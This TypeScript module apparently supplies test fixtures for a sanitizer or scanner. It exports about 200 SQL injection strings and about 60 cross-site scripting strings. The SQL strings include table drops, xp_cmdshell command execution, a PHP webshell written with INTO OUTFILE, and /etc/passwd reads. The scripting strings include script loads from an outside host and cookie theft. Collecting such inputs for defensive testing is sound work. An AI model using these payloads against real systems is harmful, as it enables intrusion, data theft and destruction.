// Values that are SQL injection or script, one a line, latin1: what scanners and people send, in every quoting context and dialect.

const sql = String.raw`
' or 1=1--
x' in (1,2)--
x' not in ('a')
x' in (1) or 'a'='a
x' is null--
x', (5)
x'), (1)--
x') = 1) union select 1--
x' = 1) or (1=1
x' like (1)
x' print('a')
from a where substring(b,1)=1
where substring(b,1)=1
convert(int,(select user()))
case when a then b end
' or 1=1#
' or 1=1/*
') or ('1'='1
')) or (('1'='1
' or ''='
' or 'x'='x
admin'--
admin' --
admin'#
admin'/*
admin' or '1'='1'--
admin' or '1'='1'#
admin' or 1=1 or ''='
1 or 1=1
1 or 1=1--
1' or '1'='1' --
1 AND 1=1
1 AND 1=2
1' AND '1'='1
1 AND SLEEP(5)
1' AND SLEEP(5)--
1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- -
1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
-1 UNION SELECT 1,2,3
-1' UNION SELECT 1,2,3-- -
1 UNION ALL SELECT NULL,NULL,NULL--
1' UNION SELECT username,password FROM users--
1 UNION/**/SELECT/**/1
1/**/UNION/**/SELECT/**/1
1'/**/or/**/1=1
1; DROP TABLE users
1'; DROP TABLE users--
1; SELECT pg_sleep(5)
1';WAITFOR DELAY '0:0:5'--
1 WAITFOR DELAY '0:0:5'
1; exec xp_cmdshell 'dir'
'; exec master..xp_cmdshell 'ping 10.0.0.1'--
1 ORDER BY 10--
1' ORDER BY 5-- -
1 ORDER BY 3
1' GROUP BY 1,2 HAVING 1=1--
1 HAVING 1=1
' having 1=1--
1 INTO OUTFILE '/tmp/x'
' UNION SELECT '<?php' INTO OUTFILE '/var/www/x.php'--
1 AND extractvalue(1,concat(0x7e,version()))
1' AND updatexml(1,concat(0x7e,(select user())),1)-- -
1 AND 1=CONVERT(int,@@version)
1=(select 1)
1 and (select count(*) from users)>0
1' and substring(version(),1,1)='5
1' and ascii(substring((select database()),1,1))>64--
1 and if(1=1,sleep(5),0)
' or exists(select 1)--
1 or exists(select * from users)
1) or (1=1
1) union select 1,2
1) and sleep(5)--
' || (select version()) || '
'||pg_sleep(5)--
'+(select 1)+'
1-sleep(5)
1+benchmark(10000000,md5(1))
1 or benchmark(10000000,md5(1))
sleep(5)
(select(sleep(5)))
1 and 1 like 1
1' and 1 like 1--
1 xor 1=1
1 && 1=1
1 || 1=1
' && 1=1#
' || 1=1--
' or true--
' or 1--
' or 2>1--
' or 'a' like 'a
' or 1 in (1)--
' or 1 between 0 and 2--
' and 1=(select count(*) from tabname)--
' and username is null--
x' AND email IS NULL; --
x' AND members.email IS NULL; --
23 OR 1=1
anything' OR 'x'='x
' group by userid having 1=1--
1 AND USER_NAME() = 'dbo'
1' AND non_existant_table = '1
' OR username IS NOT NULL OR username = '
1 AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects WHERE xtype='U'), 1, 1))) > 116
%' OR '1'='1
1%27 or 1=1
1" or "1"="1
1" or 1=1--
1") or ("1"="1
") or sleep(5)="
" or "a"="a
" union select 1--
" and sleep(5)#
1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
1 rlike (select 1)
1' rlike sleep(5)--
1 or 0x31=0x31
1 or 1e0=1
1e0union select 1,2
1.union select 1
1union select 1
1 union distinct select 1
1 union all(select 1)
1 union(select 1)
-1 union select @@version
1 and @@version>0
select * from users
select username, password from users where id=1
SELECT @@version
select version()
insert into users values (1,'a')
delete from users where 1=1
update users set password='x' where id=1
drop table users
exec xp_cmdshell 'dir'
declare @q varchar(200)
1;declare @q varchar(99);set @q='x'
1;begin waitfor delay '0:0:5' end
1 and dbms_pipe.receive_message('a',5)
1 and utl_inaddr.get_host_address('x') is not null
1' and 1=utl_inaddr.get_host_address((select user from dual))--
1 or 1=1 limit 1
' or 1=1 limit 1 -- -
' or 1=1 order by 1--
' or id=1--
' or id=1 or '
1' or 1 --
test' and '1'='1
test'-'
test'||'x
test'+'x
'='
'-0-'
'*'
'^'
'like'
'-'
'&'
' or ''-'
"-"
" or ""-"
admin') or ('1'='1'--
admin') or '1'='1'/*
1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055
1 and 1=1 union select 1
1 or not 1=2
1 and not exists(select 1)
1' and not 1=2--
1 or(1)=(1)
1'or(1)=(1)--
1'or'1'='1
1'or/**/'1'='1
1'	or	1=1
1' or 1=1 -- comment
1 or 1=1 /* comment */
(1)or(1)=(1)
1 and case when 1=1 then 1 else 0 end
1 and (case when 1=1 then sleep(5) end)
1 and row(1,1)>(select count(*),concat(0x1) from dual)
1,(select 1)
1,sleep(5)
name,(select case when 1=1 then 1 else 2 end)
(case when 1=1 then name else id end)
if(1=1,sleep(5),0)
1'||dbms_pipe.receive_message('a',10)||'
1' and '1' = concat('1')--
1' or json_extract('{"a":1}','$.a')=1--
1' and pg_sleep(5) is null--
1; select load_file('/etc/passwd')
1; insert into t values(1)
1; update users set a=1
1; create table x(a int)
1; truncate table x
1; shutdown--
1/*!50000union*//*!50000select*/1
1 /*!or*/ 1=1
1' /*!50000or*/ '1'='1
@ or 1=1
@a or 1=1
{tick}id{tick} or 1=1
null or 1=1
true and 1=1
false or 1=1
0x1 or 1=1
id or 1=1
id=1 or 1=1
user() or 1=1
1=1--
1 is null or 1=1`;

const script = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
<scr{nul}ipt>alert(1)</script>
<script/x>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x'onerror='alert(1)'>
<img src={tick}x{tick} onerror={tick}alert(1){tick}>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg:script>alert(1)</svg:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<applet code="x.class">
<base href="//x.example/">
<link rel=stylesheet href=//x.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import "//x.example/x.css";</style>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java&#x73;cript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="data:text/html,<b>x">x</a>
<a href="vbscript:msgbox(1)">x</a>
<form action="javascript:alert(1)"><input type=submit>
<button formaction="javascript:alert(1)">x</button>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<set attributeName=onmouseover to=alert(1)>
<animate attributeName=href values=javascript:alert(1)>
<video><source onerror=alert(1)></video>
<details open ontoggle=alert(1)>
<div style="background:url(javascript:alert(1))">
<div onpointerrawupdate=alert(1)>
<xss onbeforehellfreezes=alert(1)>
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- {tick} --><b>
<!--><script>alert(1)</script>
<?import namespace="t" implementation="#default#time2">
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y "z">]>
<!ENTITY x "y">
</ x="><script>alert(1)</script>
<% x="%><script>alert(1)</script>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
{tick} onmouseover={tick}alert(1)
x onmouseover=alert(1)
x" onerror=alert(1) "
" style="width:expression(alert(1))
x href=javascript:alert(1)
"onmouseover='prompt(document.cookie)'"`;

function linesOf(text: string): string[] {
  return text
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => line.replaceAll("{tick}", "`").replaceAll("{nul}", "\0"));
}

export const sqlAttacks: readonly string[] = linesOf(sql);

export const scriptAttacks: readonly string[] = linesOf(script);
